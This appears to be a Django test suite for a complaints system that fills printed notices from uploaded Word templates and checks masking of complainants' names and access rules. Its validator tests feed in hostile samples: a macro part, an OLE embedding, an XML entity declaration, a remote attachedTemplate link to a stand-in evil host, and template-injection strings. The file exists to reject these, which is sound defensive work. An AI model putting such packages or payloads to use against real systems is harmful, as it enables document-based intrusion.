"""Printed notices from templates the organisation edits: filled, checked, without data in the wrong place (SCR-10)."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document
from docx.shared import Pt

from accounts.errors import InvalidInput
from accounts.tests.factories import sign_in_anew
from complaints import notice_documents, notice_stock, notice_templates, notices, transitions
from complaints.models import ExternalBody, Notice, NoticeTemplate
from complaints.states import NoticeKind, RefusalGround
from complaints.tests.factories import Story, at, category

GROUND = "不属于本单位职责"
RULE = "供水服务在受理范围内\n（《供水条例》第 12 条 <甲> & 乙）"


def words(docx: bytes) -> str:
    """Everything a reader of the document sees, paragraph by paragraph."""
    return "\n".join(paragraph.text for paragraph in Document(io.BytesIO(docx)).paragraphs)


def accepted(cast, **changes) -> Notice:
    story = Story(cast, name="张桂芳")
    transitions.accept(story.pk, by=cast.intake, rule=RULE, category=category(), at=at("2026-11-16 10:00"), **changes)
    return Notice.objects.select_related("complaint").get(complaint=story.pk, kind="acceptance")


def template(*paragraphs: str) -> bytes:
    """A Word document with these paragraphs."""
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def repacked(docx: bytes, **parts: bytes | None) -> bytes:
    """The document with parts added or changed: word__vbaProject_bin becomes word/vbaProject.bin."""
    names = {name.replace("__", "/").replace("_", "."): content for name, content in parts.items()}
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in names:
                new.writestr(entry.filename, old.read(entry))
        for name, content in names.items():
            new.writestr(name, content)
    return stream.getvalue()


# --- What the documents say -------------------------------------------------------------------------
def test_acceptance(cast):
    notice = accepted(cast, outstanding=["户号", "现场照片"], outstanding_due=at("2026-11-30 00:00").date())
    values = notice_documents.values(notice)
    assert values["rule"] == RULE
    assert values["due_on"] == "2026年12月7日 17:30"
    assert (values["outstanding"], values["outstanding_due"]) == (["户号", "现场照片"], "2026年11月30日")
    text = words(notice_documents.document(notice))
    assert "受理告知书" in text
    assert RULE in text
    assert "2026年12月7日 17:30前，由责任部门办结" in text
    assert "以下材料可以后补，不影响受理，请在2026年11月30日前补齐：\n户号\n现场照片\n" in text
    assert notice.complaint.number in text
    assert "{" not in text


def test_acceptance_without_items_to_come_does_not_speak_of_them(cast):
    assert "后补" not in words(notice_documents.document(accepted(cast)))


def test_non_acceptance(cast):
    story = Story(cast)
    body = ExternalBody.objects.get(phone="12345")
    transitions.refuse(
        story.pk,
        by=cast.intake,
        ground=RefusalGround.OUT_OF_SCOPE,
        rule="属于政府部门管理的事项",
        reason="道路照明由市政部门管理。\n我们不管路灯。",
        body=body,
        suggestion="拨打 12345",
        at=at("2026-11-16 10:00"),
    )
    notice = Notice.objects.select_related("complaint__policy").get(complaint=story.pk, kind="non_acceptance")
    values = notice_documents.values(notice)
    assert values["ground"] == f"{GROUND}；属于政府部门管理的事项"
    assert values["reason"] == "道路照明由市政部门管理。\n我们不管路灯。"
    assert values["body"] == "12345 政务服务便民热线（政府部门管理和公共服务事项），电话 12345"
    assert values["suggestion"] == "拨打 12345"
    first, *others = notice.complaint.policy.remedies["zh-hans"]
    assert first == "收到答复之日起 15 个工作日内申请复查"
    # There was no reply: the time runs from the notice in hand (SCR-03, SCR-10).
    assert values["remedies"] == ["收到本告知书之日起 15 个工作日内申请复查", *others]
    text = words(notice_documents.document(notice))
    for part in ("不予受理告知书", values["reason"], values["body"], *values["remedies"]):
        assert part in text


@pytest.mark.parametrize(
    ("policy", "refusal"),
    [
        ("收到答复之日起 15 个工作日内申请复查", "收到本告知书之日起 15 个工作日内申请复查"),
        ("收到书面答复之日起 30 日内，请求复查", "收到本告知书之日起 30 日内，请求复查"),
        ("收到处理决定之日起30日内，书面申请核查", "收到本告知书之日起30日内，书面申请核查"),
        ("收到答复 60 日内反馈意见", "收到本告知书之日起 60 日内反馈意见"),
        ("收到复查意见之日起 30 日内，请求复核", "收到复查意见之日起 30 日内，请求复核"),
        ("没有收到答复的，可以催办", "没有收到答复的，可以催办"),
    ],
)
def test_a_refusal_counts_from_itself_whatever_the_policy_counts_from(cast, policy, refusal):
    """SCR-10: also in the words an organisation gave its own policy; the policy itself keeps them for replies."""
    case = Story(cast).case
    case.policy.remedies = {"zh-hans": [policy]}
    text = notices.compose(case, NoticeKind.NON_ACCEPTANCE, at=case.received_at, ground="不属于", reason="不归我们")
    assert f"1. {refusal}\n" in text
    assert case.policy.remedies == {"zh-hans": [policy]}
    refused_review = notices.compose(case, NoticeKind.REVIEW_REFUSAL, at=case.received_at, reason="没有新的事实")
    assert f"1. {policy}\n" in refused_review


def test_non_acceptance_in_its_shortest_form(cast):
    story = Story(cast)
    transitions.refuse(
        story.pk, by=cast.intake, ground=RefusalGround.NO_MATTER, reason="没有具体事项", at=at("2026-11-16 10:00")
    )
    notice = Notice.objects.select_related("complaint").get(complaint=story.pk, kind="non_acceptance")
    values = notice_documents.values(notice)
    assert (values["reason"], values["body"], values["suggestion"]) == ("没有具体事项", "", "")
    assert "负责这件事的单位" not in words(notice_documents.document(notice))


def test_supplement_request(cast):
    story = Story(cast)
    transitions.request_information(story.pk, by=cast.intake, items="1. 运单号\n2. 照片", at=at("2026-11-16 10:00"))
    notice = Notice.objects.select_related("complaint").get(complaint=story.pk, kind="supplement")
    assert notice_documents.values(notice)["items"] == ["运单号", "照片"]
    assert "请一次补齐：\n运单号\n照片\n" in words(notice_documents.document(notice))
    assert notice_documents.values(notice)["due_on"] == ""


def test_scr_06_the_printed_request_says_until_when(cast):
    """SCR-10: whoever gets it on paper reads the same day as on the tracking page."""
    story = Story(cast)
    transitions.request_information(
        story.pk, by=cast.intake, items="运单号", due_at=at("2026-11-30 17:30"), at=at("2026-11-16 10:00")
    )
    notice = Notice.objects.select_related("complaint").get(complaint=story.pk, kind="supplement")
    assert notice_documents.values(notice)["due_on"] == "2026年11月30日"
    assert "请在2026年11月30日前（含当日）补齐。" in words(notice_documents.document(notice))


def test_a_letter_says_what_it_said_when_it_was_issued(cast):
    """A limit that moved later does not change a letter that was sent."""
    notice = accepted(cast)
    notice.complaint.deadlines.update(due_at=at("2030-01-01 12:00"))
    assert notice_documents.values(notice)["due_on"] == "2026年12月7日 17:30"


@pytest.mark.parametrize("kind", notice_templates.PRINTED)
def test_every_letter_is_read_back_in_full(kind, cast):
    """The whole letter is there for templates that want no parts: nothing between title and signature is lost."""
    case = Story(cast).accept().case
    values = {"rule": "甲", "ground": "乙", "reason": "丙", "items": "丁", "suggestion": "", "body": None}
    body = notices.compose(case, kind, at=at("2026-11-16 10:00"), **values)
    notice = Notice(complaint=case, kind=kind, body=body, issued_at=at("2026-11-16 10:00"))
    found = notice_documents.values(notice)
    assert set(found) == set(notice_templates.PLACEHOLDERS[kind])
    kept = [line for line in body.splitlines() if line.strip()][1:]
    assert found["lines"] == [re.sub(r"^\d+\. ", "", line) for line in kept[: len(found["lines"])]]
    assert len(kept) - len(found["lines"]) in (2, 3)  # name, telephone and, where the letter has one, the day


def test_control_characters_and_braces_in_what_people_wrote_do_no_harm(cast):
    story = Story(cast)
    nasty = "{{ 7 * 7 }} {% for x in y %} </w:t> & <b>粗</b> \x0b\x07 ]]>"
    transitions.accept(story.pk, by=cast.intake, rule=nasty, category=category(), at=at("2026-11-16 10:00"))
    notice = Notice.objects.select_related("complaint").get(complaint=story.pk, kind="acceptance")
    assert "{{ 7 * 7 }} {% for x in y %} </w:t> & <b>粗</b>  ]]>" in words(notice_documents.document(notice))


# --- On the case page -------------------------------------------------------------------------------
def test_download_for_whoever_sees_the_case(cast, client):
    notice = accepted(cast)
    number = notice.complaint.number
    url = reverse("complaints:notice_document", args=[number, notice.pk])
    client.force_login(cast.intake)
    assert (
        reverse("complaints:notice", args=[number, notice.pk])
        in client.get(reverse("complaints:detail", args=[number])).content.decode()
    )
    response = client.get(url)
    assert response["Content-Disposition"] == f'attachment; filename="{number}-acceptance.docx"'
    assert response["Cache-Control"] == "no-store"
    text = words(response.content)
    assert "张**：" in text
    assert "张桂芳" not in text
    client.force_login(cast.water_handler)
    assert client.get(url).status_code == 404
    other = Story(cast).accept().case
    client.force_login(cast.intake)
    assert client.get(reverse("complaints:notice_document", args=[other.number, notice.pk])).status_code == 404


def test_the_full_name_takes_a_reason_and_leaves_a_trace(cast, client):
    """AZ-06: the name in clear is a look at the complainant's data."""
    notice = accepted(cast)
    url = reverse("complaints:notice", args=[notice.complaint.number, notice.pk])
    client.force_login(cast.intake)
    assert "张**：" in client.get(url).content.decode()
    assert client.post(url, {"reason": ""}).status_code == 422
    response = client.post(url, {"reason": "邮寄受理告知书"})
    assert "张桂芳：" in words(response.content)
    event = notice.complaint.events.get(kind="reveal")
    assert (event.actor, event.note) == (cast.intake, "name: 邮寄受理告知书")
    client.force_login(cast.auditor)
    assert 'name="reason"' not in client.get(url).content.decode()
    assert client.post(url, {"reason": "想看看"}).status_code == 403
    assert notice.complaint.events.filter(kind="reveal").count() == 1


def test_a_notice_without_a_printed_form_has_none(cast, client):
    story = Story(cast)
    notice = Notice.objects.get(complaint=story.pk, kind="acknowledgement")
    client.force_login(cast.intake)
    assert client.get(reverse("complaints:notice", args=[story.case.number, notice.pk])).status_code == 404


def test_fb_01_a_complaint_by_letter_is_answered_by_a_letter_whose_sending_is_recorded(cast, client):
    """Printed as it was sent, with the numbers the handler wrote; given only when somebody has posted it."""
    story = Story(cast, channel="letter").accept().assign().start()
    transitions.submit_for_check(
        story.pk,
        by=cast.water_handler,
        process="1. 查了调度日志\n2. 到现场 </w:t> & 🙂",
        result="管道已修复 <b>",
        at=at("2026-11-18 15:00"),
    )
    story.reply()
    notice = Notice.objects.select_related("complaint__complainant").get(complaint=story.pk, kind="reply")
    found = notice_documents.values(notice)
    assert found["process"] == ["1. 查了调度日志", "2. 到现场 </w:t> & 🙂"]
    assert found["result"][0] == "管道已修复 <b>"
    printed = words(notice_documents.document(notice))
    assert "投诉答复书" in printed
    assert "一、办理经过\n1. 查了调度日志\n2. 到现场 </w:t> & 🙂\n二、处理结果\n管道已修复 <b>\n" in printed

    client.force_login(cast.intake)
    page = client.get(reverse("complaints:notice", args=[story.case.number, notice.pk])).content.decode()
    record = reverse("complaints:contact", args=[story.case.number])
    assert f'href="{record}"' in page
    form = client.get(record).content.decode()
    assert '<option value="reply" selected>' in form
    assert '<option value="letter" selected>' in form
    sent = {
        "direction": "out", "channel": "letter", "purpose": "reply", "outcome": "reached",
        "summary": "挂号寄出", "recording_reference": "XA123456789CN",
    }  # fmt: skip
    assert client.post(record, sent).status_code == 302
    assert story.case.replies.get().delivered_at is not None
    assert not story.case.deadlines.filter(milestone="reply", state="running").exists()
    assert (
        f'href="{record}"'
        not in client.get(reverse("complaints:notice", args=[story.case.number, notice.pk])).content.decode()
    )
    client.force_login(cast.roads_handler)
    assert client.get(reverse("complaints:notice_document", args=[story.case.number, notice.pk])).status_code == 404


# --- The organisation's own templates -----------------------------------------------------------------
def upload(client, content: bytes, kind: str = "acceptance", name: str = "我们的模板.docx"):
    url = reverse("complaints:notice_template_add", args=[kind])
    return client.post(url, {"document": SimpleUploadedFile(name, content)})


def test_an_uploaded_template_is_used_and_every_revision_kept(cast, client):
    notice = accepted(cast)
    client.force_login(cast.coordinator)
    assert upload(client, template("第一版 {{ number }}")).status_code == 302
    assert (
        upload(
            client, template("第二版 {{ rule }}", "{%p for line in lines %}", "{{ line }}", "{%p endfor %}")
        ).status_code
        == 302
    )
    rows = NoticeTemplate.objects.order_by("revision")
    assert [(row.revision, row.file_name, row.by, len(row.sha256)) for row in rows] == [
        (1, "我们的模板.docx", cast.coordinator, 64),
        (2, "我们的模板.docx", cast.coordinator, 64),
    ]
    text = words(notice_documents.document(notice))
    assert text.startswith("第二版 供水服务")
    assert f"您的投诉（案件号 {notice.complaint.number}）已于 2026年11月16日 受理。" in text
    use = reverse("complaints:notice_template_use", args=[rows[1].pk])
    client.post(use, {"active": "false"})
    assert words(notice_documents.document(notice)) == f"第一版 {notice.complaint.number}"
    client.post(use, {"active": "true"})
    assert words(notice_documents.document(notice)).startswith("第二版")
    page = client.get(reverse("complaints:notice_templates")).content.decode()
    assert "我们的模板.docx" in page
    first = client.get(reverse("complaints:notice_template_file", args=["acceptance", 1]))
    assert first.content == bytes(rows[0].document)


def test_the_shipped_template_goes_round(cast, client):
    """Downloaded, saved and uploaded again it is accepted; the preview names its placeholders."""
    sign_in_anew(client, cast.administrator)
    for kind in notice_templates.PRINTED:
        shipped = client.get(reverse("complaints:notice_template_file", args=[kind, 0]))
        assert upload(client, shipped.content, kind).status_code == 302
        assert "〔subject〕" in client.get(reverse("complaints:notice_template_preview", args=[kind])).content.decode()
    assert client.get(reverse("complaints:notice_template_file", args=["acceptance", 9])).status_code == 404
    assert client.get(reverse("complaints:notice_template_file", args=["acknowledgement", 0])).status_code == 404


def test_config_a_file_is_chosen_again_after_the_password(cast, client):
    client.force_login(cast.administrator)
    asked = upload(client, template("{{ number }}"), "acceptance")
    assert asked["Location"].startswith(reverse("account_reauthenticate"))
    assert "请重新选择文件" in client.get(asked["Location"]).content.decode()
    assert not NoticeTemplate.objects.exists()


_ENTITIES = b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'
_EXTERNAL = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="Exter&#110;al"/></Relationships>'
)
_PLAIN = template("{{ number }}")


@pytest.mark.parametrize(
    ("content", "fault"),
    [
        (b"", "document"),
        (b"just text", "Word"),
        (b"PK\x03\x04 broken", "Word"),
        (repacked(_PLAIN, word__vbaProject_bin=b"x"), "Word"),
        (repacked(_PLAIN, word__embeddings__oleObject1_bin=b"x"), "embeddings/oleObject1.bin"),
        (repacked(_PLAIN, word___rels__settings_xml_rels=_EXTERNAL), "settings.xml.rels"),
        (repacked(_PLAIN, word__extra_xml=_ENTITIES), "Word"),
        (repacked(_PLAIN, word__extra_xml=b"<!--%b-->%b" % (b" " * 2000, _ENTITIES)), "word/extra.xml"),
        (template("{{ number }} {{ telephone }} {{ nmae }}"), "nmae、telephone"),
        (template("{{ items }}"), "items"),
        (template("{% if number %}"), "if"),
        (template("{{ number "), "花括号"),
        (template("{{ number.__class__ }}"), "getattr"),
        (template("{{ number * 10**9 }}"), "mul"),
        (template("{{ number|upper }}"), "filter"),
        (template("{{ range(10) }}"), "call"),
        (template("{% include 'x' %}"), "include"),
        (template("{% set a = number %}"), "assign"),
        (template("{%p for a in number %}", "{{ a }}", "{%p endfor %}"), "outstanding"),
        (
            template("{%p for a in lines %}", "{%p for b in lines %}", "{{ b }}", "{%p endfor %}", "{%p endfor %}"),
            "for",
        ),
    ],
)
def test_a_bad_template_is_refused_naming_the_fault(content, fault, cast, client):
    client.force_login(cast.coordinator)
    client.cookies["django_language"] = "en"
    response = upload(client, content)
    page = response.content.decode()
    assert response.status_code == 422
    error = re.search(r'id="acceptance_document_error"[^>]*>(.*?)</', page, re.DOTALL)
    assert error, page[:500]
    assert not NoticeTemplate.objects.exists()
    if content:
        with pytest.raises(InvalidInput) as refused:
            notice_templates.check(content, NoticeKind.ACCEPTANCE)
        assert (refused.value.field, fault in str(refused.value)) == ("document", True), str(refused.value)


def test_a_template_that_is_too_large_is_refused(cast):
    with pytest.raises(InvalidInput, match="2 MB"):
        notice_templates.check(b"x" * (notice_templates.MAX_BYTES + 1), NoticeKind.ACCEPTANCE)


def test_a_placeholder_in_the_header_and_the_properties_is_checked_too():
    document = Document()
    document.sections[0].header.paragraphs[0].text = "{{ header_fault }}"
    document.core_properties.title = "{{ title_fault }}"
    stream = io.BytesIO()
    document.save(stream)
    with pytest.raises(InvalidInput) as refused:
        notice_templates.check(stream.getvalue(), NoticeKind.SUPPLEMENT)
    assert "header_fault、title_fault" in str(refused.value)


def test_a_link_to_click_on_is_no_fault():
    document = Document()
    document.part.relate_to(
        "https://example.cn/",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
        is_external=True,
    )
    document.add_paragraph("{{ number }}")
    stream = io.BytesIO()
    document.save(stream)
    notice_templates.check(stream.getvalue(), NoticeKind.ACCEPTANCE)


@pytest.mark.parametrize("kind", notice_templates.PRINTED)
def test_the_shipped_templates_carry_typefaces_of_official_letters(kind):
    document = Document(io.BytesIO(notice_stock.build(kind)))
    fonts = document.styles["Title"].element.rPr.rFonts
    key = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia"
    assert fonts.get(key) == "黑体"
    assert document.styles["Body Text"].element.rPr.rFonts.get(key) == "仿宋"
    assert document.core_properties.author == ""


def test_the_page_numbers_a_list_as_the_document_does(cast):
    story = Story(cast)
    transitions.request_information(story.pk, by=cast.intake, items="运单号\n照片", at=at("2026-11-16 10:00"))
    notice = Notice.objects.select_related("complaint").get(complaint=story.pk, kind="supplement")
    shown = [block.text for block in notice_documents.blocks(notice_documents.document(notice))]
    assert shown.index("2. 照片") == shown.index("1. 运单号") + 1


@pytest.mark.parametrize("kind", notice_templates.PRINTED)
def test_who_signs_and_when_stay_on_one_page_with_how_to_reach_them(kind):
    document = Document(io.BytesIO(notice_stock.build(kind)))
    assert document.styles["Signature"].paragraph_format.keep_with_next
    names = [paragraph.style.name for paragraph in document.paragraphs]
    assert names[-4:] == ["Signature", "Signature", "Contact", "Receipt"]
    # The line to sign is one line: 12-point characters between the margins of the page.
    page = document.sections[0]
    room = (page.page_width - page.left_margin - page.right_margin) / Pt(1)
    assert len(document.paragraphs[-1].text) * 12 < room
